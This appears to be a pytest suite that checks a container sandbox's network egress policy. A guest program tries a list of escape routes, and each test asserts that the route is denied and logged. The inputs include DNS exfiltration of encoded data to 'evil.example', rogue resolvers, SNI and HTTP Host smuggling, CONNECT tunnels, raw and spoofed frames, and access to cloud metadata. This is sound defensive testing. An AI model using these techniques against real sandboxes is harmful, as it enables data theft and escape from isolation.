"""A policy with a real guest: attempts to get out, from a program in a container that is root there."""

from __future__ import annotations

import asyncio
import errno
import json
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

import dns.message
import pytest
from attrs import define

from pykata import Container, Network, NetworkEvent, NetworkStrategy, Sandbox, TCFilter
from pykata.net.netns import Netns
from pykata.net.policy import resolve
from tests import frames
from tests.frames import SYN, TCP, ip4
from tests.lies import SPOOFED, frame
from tests.netlab import (
    GATEWAY,
    GOOD,
    GOOD6,
    GUEST,
    METADATA,
    NEIGHBOUR,
    OTHER,
    THIRD,
    Resolver,
    World,
    client_hello,
    surroundings,
)  # fmt: skip

POLICY = ["good.example", "*.wild.example", "rebound.example", "loop.example", "meta.example"]
GET = b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n"
RESOLVER = ("127.83.7.53", 53)

# Does in the guest what it is told, one after the other, and says what came of it: bytes, addresses, or an errno.
PROGRAM = """
import json, socket, sys

def attempt(kind, address="", port=0, data=""):
    data = bytes.fromhex(data)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    if kind == "frame":
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            s.bind(("eth0", 0))
            return s.send(data)
    if kind == "lookup":
        return sorted({each[4][0] for each in socket.getaddrinfo(address, None, socket.AF_INET)})
    with socket.socket(family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM) as s:
        s.settimeout(60)
        s.connect((address, port))
        s.sendall(data)
        return s.recv(65536).hex() if data else ""

for line in sys.stdin:
    try:
        result = attempt(**json.loads(line))
    except OSError as exc:
        result = {"errno": exc.errno}
    print(json.dumps(result), flush=True)
"""


@define
class Attempts:
    """A guest that tries, and what is seen of it."""

    sb: Sandbox
    box: Container
    world: World

    async def make(self, *attempts: Mapping[str, object]) -> list[object]:
        lines = "".join(json.dumps(each) + "\n" for each in attempts)
        done = await self.box.run(["python3", "-c", PROGRAM], input=lines, check=True, timeout=300)
        return [json.loads(line) for line in done.stdout.splitlines()]

    async def event(self, **wanted: object) -> NetworkEvent:
        async with asyncio.timeout(60):
            async for event in self.sb.network.events():
                if all(getattr(event, name) == value for name, value in wanted.items()):
                    return event
        raise AssertionError(wanted)


@asynccontextmanager
async def trying(
    path: Path, patch: pytest.MonkeyPatch, image: str, allow: Sequence[str] = POLICY
) -> AsyncIterator[tuple[Attempts, Resolver]]:
    patch.setattr(resolve, "RESOLV_CONF", path / "resolv.conf")
    (path / "resolv.conf").write_text(f"nameserver {RESOLVER[0]}\n")
    async with (
        surroundings(path, RESOLVER) as (inside, world, resolver),
        Sandbox(network=Network(_strategy(inside), allow=allow), isolation="emulated") as sb,
        sb.container(image) as box,
    ):
        yield Attempts(sb, box, world), resolver


def _strategy(inside: Netns) -> NetworkStrategy:
    return TCFilter(inside.path)


def tcp(address: str, port: int, data: bytes = b"") -> dict[str, object]:
    return {"kind": "tcp", "address": address, "port": port, "data": data.hex()}


def udp(address: str, port: int, data: bytes = b"?") -> dict[str, object]:
    return {"kind": "udp", "address": address, "port": port, "data": data.hex()}


def lookup(name: str) -> dict[str, object]:
    return {"kind": "lookup", "address": name}


def sent(raw: bytes) -> dict[str, object]:
    return {"kind": "frame", "data": raw.hex()}


NO = {"errno": errno.ECONNREFUSED}
CUT = {"errno": errno.ECONNRESET}
PROHIBITED = {"errno": errno.EHOSTUNREACH}
UNKNOWN = {"errno": -2}         # EAI_NONAME
QUESTION = dns.message.make_query("c2VjcmV0.evil.example", "TXT").to_wire()

# What is tried, what the guest sees of it, and what the event says of it.
ATTEMPTS: dict[str, tuple[dict[str, object], object, dict[str, object]]] = {
    "an address": (tcp(OTHER, 443), NO, {"address": OTHER, "port": 443, "reason": "address"}),
    "another port": (tcp(GOOD, 22), NO, {"address": GOOD, "port": 22, "reason": "port"}),
    "IPv6": (tcp(GOOD6, 443), NO, {"address": GOOD6, "reason": "address"}),
    "UDP": (udp(GOOD, 9000), PROHIBITED, {"protocol": "udp", "port": 9000}),
    "QUIC": (udp(GOOD, 443, b"\xc0" + bytes(1200)), PROHIBITED, {"protocol": "udp", "port": 443}),
    "metadata": (tcp(METADATA, 80), NO, {"address": METADATA, "reason": "protected"}),
    "the gateway": (tcp(GATEWAY, 8080), NO, {"address": GATEWAY, "port": 8080}),
    "another sandbox": (tcp(NEIGHBOUR, 80), NO, {"address": NEIGHBOUR}),
    "another name": (lookup("evil.example"), UNKNOWN, {"protocol": "dns", "name": "evil.example"}),
    "data in a name": (lookup("c2VjcmV0.good.example"), UNKNOWN, {"name": "c2vjcmv0.good.example"}),
    "a name that leads inside": (
        lookup("rebound.example"), UNKNOWN, {"reason": "rebinding", "name": "rebound.example"},
    ),
    "a name that leads to itself": (lookup("loop.example"), UNKNOWN, {"reason": "rebinding", "name": "loop.example"}),
    "a name of metadata": (lookup("meta.example"), UNKNOWN, {"reason": "rebinding", "name": "meta.example"}),
    "another resolver": (udp(OTHER, 53, QUESTION), PROHIBITED, {"reason": "resolver", "address": OTHER}),
    "another resolver by TCP": (tcp(OTHER, 53, QUESTION), NO, {"protocol": "tcp", "port": 53}),
    "TLS for another name": (tcp(GOOD, 443, client_hello("evil.example")), CUT, {"port": 443, "reason": "mismatch"}),
    "TLS without a name": (tcp(GOOD, 443, client_hello(None)), CUT, {"port": 443, "reason": "sni"}),
    "HTTP on the port of TLS": (tcp(GOOD, 443, GET % b"good.example"), CUT, {"port": 443, "reason": "tls"}),
    "HTTP for another host": (tcp(GOOD, 80, GET % b"evil.example"), CUT, {"port": 80, "reason": "mismatch"}),
    "HTTP for an address": (tcp(GOOD, 80, GET % GOOD.encode()), CUT, {"port": 80, "reason": "mismatch"}),
    "two requests": (
        tcp(GOOD, 80, GET % b"good.example" + GET % b"evil.example"), CUT, {"port": 80, "reason": "mismatch"},
    ),
    "two readings": (
        tcp(GOOD, 80, b"GET http://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"), CUT, {"reason": "host"},
    ),
    "a tunnel": (
        tcp(GOOD, 80, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n"), CUT, {"reason": "connect"},
    ),
    "SSH": (tcp(GOOD, 80, b"SSH-2.0-x\r\n"), CUT, {"reason": "http"}),
    "a ping": (sent(frame(ip4(GUEST, OTHER, 1, frames.icmp(8, b"data")))), 46, {"protocol": "icmp", "address": OTHER}),
    "GRE": (sent(frame(ip4(GUEST, OTHER, 47, bytes(20)))), 54, {"protocol": "gre"}),
    "a segment without a connection": (
        sent(frame(ip4(GUEST, GOOD, TCP, frames.tcp(GUEST, GOOD, 5000, 443, flags=16, payload=b"data")))), 58,
        {"reason": "state"},
    ),
    "data in a SYN": (
        sent(frame(ip4(GUEST, GOOD, TCP, frames.tcp(GUEST, GOOD, 5000, 443, flags=SYN, payload=b"data")))), 58,
        {"reason": "early"},
    ),
    **{what: (sent(raw), len(raw), {"reason": reason}) for what, (raw, reason) in SPOOFED.items()},
}  # fmt: skip


async def test_attempts_to_get_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, demo_image: str) -> None:
    async with trying(tmp_path, monkeypatch, demo_image) as (guest, resolver):
        assert await guest.make(lookup("good.example"), tcp(GOOD, 443, client_hello())) == [[GOOD], b"reply".hex()]
        guest.world.received.clear()
        seen = await guest.make(*(attempt for attempt, _, _ in ATTEMPTS.values()))
        assert dict(zip(ATTEMPTS, seen, strict=True)) == {what: sees for what, (_, sees, _) in ATTEMPTS.items()}
        for _, _, said in ATTEMPTS.values():
            await guest.event(action="denied", **said)
        # Nothing came anywhere, but for the first request of two; and nobody was asked about what isn't allowed.
        assert set(guest.world.received) <= {(GOOD, 80)}
        assert b"evil" not in b"".join(guest.world.received.get((GOOD, 80), []))
        assert {name for name, _ in resolver.asked} <= {*POLICY, "a.wild.example"}
        assert await guest.make(
            lookup("a.wild.example"), tcp(THIRD, 443, client_hello("a.wild.example")), tcp(GOOD, 443, client_hello()),
            tcp(GOOD, 80, GET % b"good.example"),
        ) == [[THIRD], *[b"reply".hex()] * 3]  # fmt: skip


async def test_a_policy_that_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, demo_image: str) -> None:
    async with trying(tmp_path, monkeypatch, demo_image, []) as (guest, _):
        resolv = await guest.box.run(["cat", "/etc/resolv.conf"], check=True)
        assert "nameserver 169.254.53.53" in resolv.stdout
        assert await guest.make(lookup("good.example"), tcp(OTHER, 9000, b"x")) == [UNKNOWN, NO]
        await guest.sb.network.allow("good.example", f"{OTHER}:9000")
        assert await guest.make(lookup("good.example"), tcp(OTHER, 9000, b"x")) == [[GOOD], b"reply".hex()]
        await guest.sb.network.deny(OTHER, "good.example")
        assert await guest.make(lookup("good.example"), tcp(OTHER, 9000, b"x")) == [UNKNOWN, NO]
